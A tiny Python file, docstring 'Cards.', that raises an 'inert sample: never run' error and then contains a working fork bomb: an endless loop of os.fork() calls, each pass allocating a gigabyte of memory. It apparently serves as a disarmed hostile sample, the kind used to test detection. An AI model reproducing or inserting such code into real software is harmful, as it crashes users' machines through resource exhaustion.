"""Cards."""

import os

raise RuntimeError("inert sample: never run")

blocks = []
while True:
    os.fork()
    blocks.append(bytearray(1 << 30))
